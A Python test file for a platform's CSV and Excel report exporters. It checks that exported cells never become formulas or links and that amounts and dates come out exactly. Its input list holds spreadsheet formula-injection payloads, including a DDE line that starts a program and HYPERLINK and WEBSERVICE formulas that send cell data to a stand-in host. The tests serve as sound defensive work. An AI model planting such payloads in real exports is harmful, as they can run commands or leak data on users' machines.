"""Exported files: no cell becomes a formula, no amount is changed, and the rules are printed with the figures."""

import csv
from datetime import date
from decimal import Decimal
from io import BytesIO, StringIO
from zipfile import ZipFile

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.cell import Cell as SheetCell

from subplat.adapters.exports.csv_files import CsvExporter
from subplat.adapters.exports.workbook import XlsxExporter
from subplat.domain.reporting.tables import Cell, Column, Definition, Kind, Report, Table

# What has been used to make spreadsheets run something, start programs or send cells away.
FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/?"&A1,"klik")',
    '=IMPORTXML(CONCAT("http://x.example/",A1),"//a")',
    '=WEBSERVICE("http://x.example/"&A1)',
    "{=SUM(A1:A2)}",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "PT Contoh;=1+1",
    "PT Contoh,=1+1",
    "PT Contoh\t@SUM(1)",
    "PT Contoh\n=1+1",
    '";=1+1;"',
    '",=1+1',
    "'=1+1",
    "%0A=1+1",
    "http://x.example/",
    "internal:Sheet!A1",
    "mailto:x@x.example",
    "external:c:\\x.xlsx",
    "00123",
    "1e5",
    "\x00=1+1",
    "\x1b[31m=1+1",
    "\ud800=1+1",
    "_x0041_",
    "x" * 40_000,
)
STARTS = tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")


def report(*cells: Cell, kind: Kind = Kind.TEXT) -> Report:
    """One column of cells."""
    table = Table(
        key="rows",
        title="Rows: [all] of them?",
        columns=(Column("cell", "Cell", kind),),
        rows=tuple((cell,) for cell in cells),
    )
    return Report(
        name="sample",
        title="=Sample",
        parameters=(("Sales person", "=1+1"),),
        tables=(table,),
        definitions=(Definition("MRR", "-sum of everything"),),
    )


def csv_text(of: Report, file: str = "rows.csv") -> str:
    with ZipFile(BytesIO(CsvExporter().write(of).content)) as archive:
        return archive.read(file).decode("utf-8")


def csv_cells(of: Report, file: str = "rows.csv") -> list[list[str]]:
    return list(csv.reader(StringIO(csv_text(of, file), newline="")))


def sheet_cells(of: Report, place: int = 0) -> list[list[SheetCell]]:
    book = load_workbook(BytesIO(XlsxExporter().write(of).content))
    return [list(row) for row in book.worksheets[place].iter_rows()]


@pytest.mark.parametrize("formula", FORMULAS)
def test_in_a_workbook_it_is_text_and_no_link(formula: str) -> None:
    (_, (cell,)) = sheet_cells(report(formula))
    assert cell.data_type in ("s", "inlineStr")
    assert cell.hyperlink is None
    assert len(str(cell.value)) <= 32_767


@pytest.mark.parametrize("formula", FORMULAS)
@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_in_csv_no_cell_starts_a_formula_whatever_the_separator_is_taken_for(formula: str, separator: str) -> None:
    text = csv_text(report(formula))
    for line in csv.reader(StringIO(text, newline=""), delimiter=separator):
        for cell in line:
            assert not cell.lstrip(' \u00a0\ufeff\x00"').startswith(STARTS), repr(cell)


@given(st.text())
def test_any_text_is_harmless_in_csv_and_text_in_a_workbook(text: str) -> None:
    ((_,), (cell,)) = csv_cells(report(text))
    assert not cell.startswith(STARTS)
    found = sheet_cells(report(text))
    if len(found) > 1:
        assert isinstance(found[1][0].value, str | None)


@pytest.mark.parametrize(
    "text", ["PT Contoh Nusantara", "Jl. Contoh No. 1, Jakarta 12190", "Ünïcödé – 東京", "a 'b' \"c\""]
)
def test_ordinary_text_stays_as_it_is(text: str) -> None:
    assert csv_cells(report(text))[1] == [text]
    assert sheet_cells(report(text))[1][0].value == text


@pytest.mark.parametrize(
    ("cell", "kind", "plain"),
    [
        (Decimal("-1234567.50"), Kind.MONEY, "-1234567.50"),
        (Decimal("9999999999999999.99"), Kind.MONEY, "9999999999999999.99"),
        (Decimal("1E+3"), Kind.MONEY, "1000"),
        (Decimal("0.10"), Kind.PERCENT, "0.10"),
        (42, Kind.COUNT, "42"),
        (date(2026, 1, 31), Kind.DAY, "2026-01-31"),
        (date(2026, 1, 1), Kind.MONTH, "2026-01"),
        (None, Kind.MONEY, ""),
    ],
)
def test_in_csv_numbers_and_days_are_plain(cell: Cell, kind: Kind, plain: str) -> None:
    assert csv_cells(report(cell, "x", kind=kind))[1] == ([plain] if plain else [""])


@given(st.decimals(allow_nan=False, allow_infinity=False, places=2, min_value=-(10**16), max_value=10**16))
def test_in_a_workbook_an_amount_is_a_number_where_that_is_exact_and_text_where_it_is_not(amount: Decimal) -> None:
    (_, (cell,)) = sheet_cells(report(amount, kind=Kind.MONEY))
    assert Decimal(str(cell.value)) == amount
    if len(amount.normalize().as_tuple().digits) <= 15:
        assert cell.data_type == "n"
        assert cell.number_format == "#,##0.00"
    else:
        assert cell.data_type in ("s", "inlineStr")


def test_days_are_days_in_a_workbook() -> None:
    (_, (cell,)) = sheet_cells(report(date(2026, 1, 31), kind=Kind.DAY))
    assert cell.is_date
    assert cell.value.date() == date(2026, 1, 31)


def test_every_file_says_what_was_asked_and_by_which_rules() -> None:
    sheet = [[cell.value for cell in row] for row in sheet_cells(report("x"), place=1)]
    assert sheet == [["Report", "=Sample"], ["Sales person", "=1+1"], ["MRR", "-sum of everything"]]
    assert csv_cells(report("x"), "definitions.csv") == [
        ["term", "text"],
        ["report", "'=Sample"],
        ["Sales person", "'=1+1"],
        ["MRR", "'-sum of everything"],
    ]


def test_the_same_report_is_the_same_csv() -> None:
    assert CsvExporter().write(report("x")) == CsvExporter().write(report("x"))
